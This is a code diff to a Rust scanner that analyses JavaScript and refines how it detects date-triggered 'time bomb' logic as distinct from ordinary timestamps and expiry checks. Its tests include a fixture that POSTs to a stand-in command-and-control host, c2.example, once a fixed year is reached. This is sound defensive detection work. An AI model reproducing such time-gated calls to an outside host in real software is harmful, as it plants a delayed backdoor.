@@ -12,7 +12,10 @@
 //! Files over [`TREE_BYTES`] (tree-sitter needs seconds for them) and
 //! subtrees nested deeper than [`MAX_DEPTH`] get a token-level scan instead.
 
-use super::indicators::{URL_RE, classify_path, classify_url, is_secret_env};
+use super::indicators::{
+    TimeVal, URL_RE, classify_path, classify_url, is_date_gate, is_secret_env, reads_now_js,
+    time_value,
+};
 use super::shell::{self, ArgvCx, Word};
 use super::treesitter::{self, named_children, text, unescape};
 use super::{Lang, Sink, Src};
@@ -78,6 +81,7 @@ pub fn extract(src: &Src, sink: &mut Sink) {
         fns: HashMap::new(),
         pending: Vec::new(),
         deferred: Vec::new(),
+        times: HashMap::new(),
         hash_calls: 0,
         deep_noted: false,
         salt: if src.depth == 0 {
@@ -378,6 +382,9 @@ struct Cx<'s, 'a, 't> {
     secret_binds: HashSet<String>,
     fns: HashMap<String, FnInfo>,
     pending: Vec<Pending>,
+    /// Variables holding the current time or an absolute date constant
+    /// (see [`is_date_gate`]).
+    times: HashMap<String, TimeVal>,
     deferred: Vec<(Node<'t>, String)>,
     hash_calls: usize,
     deep_noted: bool,
@@ -886,10 +893,24 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
             }
             let want = format!("${nm}");
             let v = self.ev(val, Some(&want), d + 1);
+            self.note_time(&nm, val);
             self.vars.insert(nm, v);
         } else {
             let v = self.ev(val, None, d + 1);
             self.bind_pattern(name, &v, dcl, d);
+        }
+    }
+
+    /// Records whether variable `nm`, assigned `val`, holds the current
+    /// time or a fixed date.
+    fn note_time(&mut self, nm: &str, val: Node) {
+        match time_value(self.t(val), reads_now_js) {
+            Some(t) => {
+                self.times.insert(nm.to_string(), t);
+            }
+            None => {
+                self.times.remove(nm);
+            }
         }
     }
 
@@ -1149,6 +1170,11 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
         }
         if let Some(k) = key {
             let end = self.sink.items.len();
+            for e in &mut self.sink.items[start.min(end)..end] {
+                if e.func.is_none() {
+                    e.func = Some(k.clone());
+                }
+            }
             let items = &self.sink.items[start.min(end)..end];
             let direct = items.iter().any(sensitive);
             let calls: Vec<String> = items
@@ -1502,6 +1528,7 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
         }
         out.plain = !subs && !escaped;
         out.k = K::Str(Rc::from(s.as_str()));
+        out.gate = None;
         out
     }
 
@@ -1796,6 +1823,8 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
         out.env_obj = false;
         out.dynamic = dynamic;
         out.k = K::Str(Rc::from(s.as_str()));
+        // A string built from a checked value is not the check itself.
+        out.gate = None;
         out
     }
 
@@ -1864,6 +1893,7 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                 }
                 let want = format!("${nm}");
                 let v = self.ev(r, Some(&want), d + 1);
+                self.note_time(&nm, r);
                 self.vars.insert(nm, v.clone());
                 v
             }
@@ -1998,15 +2028,9 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
         if t.len() > 4000 {
             return None;
         }
-        if t.contains("Date.now")
-            || t.contains("new Date")
-            || t.contains("getTime()")
-            || t.contains("getFullYear")
-            || t.contains("getMonth()")
-            || t.contains("getDate()")
-            || t.contains("getDay()")
-            || t.contains("getHours()")
-        {
+        // Now compared with a fixed date (a time bomb). Expiry, TTL and
+        // timeout checks compare with values from data and do not count.
+        if is_date_gate(t, reads_now_js, &self.times) {
             return Some(Tag::DateGate);
         }
         if t.contains("process.env.CI")
@@ -2317,10 +2341,10 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                 gate: Some(Tag::EnvGate),
                 ..V::default()
             },
-            "Date.now" => V {
-                gate: Some(Tag::DateGate),
-                ..V::default()
-            },
+            // The time itself is no gate: only a comparison with a fixed
+            // date is (`gate_text`), and a value built from it (a file
+            // name, a timestamp) carries nothing.
+            "Date.now" => V::default(),
             "path.join" | "path.resolve" | "path.normalize" | "path.posix.join"
             | "path.posix.resolve" | "path.win32.join" | "upath.join" => {
                 let mut parts = Vec::new();
@@ -2336,6 +2360,7 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                 out.k = K::Str(Rc::from(norm_join(&refs).as_str()));
                 out.dynamic = dynamic;
                 out.env_obj = false;
+                out.gate = None;
                 out
             }
             "path.dirname" | "path.basename" | "path.extname" => {
@@ -3434,10 +3459,7 @@ impl<'s, 'a, 't> Cx<'s, 'a, 't> {
                         out.k = K::Str(Rc::from(s.as_str()));
                         out
                     }
-                    "Date" => V {
-                        gate: Some(Tag::DateGate),
-                        ..V::default()
-                    },
+                    "Date" => V::default(),
                     _ => {
                         let mut out = V::default();
                         for a in args.iter() {
@@ -4860,6 +4882,27 @@ for (;;) { crypto.createHash("sha256").update(nonce++ + "").digest(); }"#);
             "for (;;) { if (done()) break; step(); }\nwhile (true) { const x = next(); if (!x) return; }",
         );
         assert!(find(&ev, Op::Loop).is_none(), "{ev:#?}");
+    }
+
+    #[test]
+    fn time_values_are_not_gates() {
+        // A file name built from the time, a timeout, a token expiry.
+        for code in [
+            "const fs = require('fs'); const path = require('path');\nconst tmpFile = path.join('/tmp', `lighthouse-${Date.now()}.json`);\nif (fs.existsSync(tmpFile)) { fs.readFileSync(tmpFile, 'utf-8'); fs.unlinkSync(tmpFile); }",
+            "let sentAt = Date.now();\nif (sentAt && !answered && Date.now() - sentAt > 30000) { fetch('https://a.example/t', { method: 'POST', body: 'x' }); }",
+            "if (Date.now() > tokens.expires_at - 60000) { fetch('https://a.example/oauth', { method: 'POST', body: 'r' }); }",
+        ] {
+            let ev = run(code);
+            assert!(!ev.iter().any(|e| e.has(Tag::DateGate)), "{code}: {ev:#?}");
+        }
+        let ev = run(
+            "const y = new Date().getFullYear();\nif (y >= 2026) { fetch('https://c2.example/b', { method: 'POST', body: 'x' }); }",
+        );
+        assert!(
+            ev.iter()
+                .any(|e| e.op == Op::NetSend && e.has(Tag::DateGate)),
+            "{ev:#?}"
+        );
     }
 
     #[test]
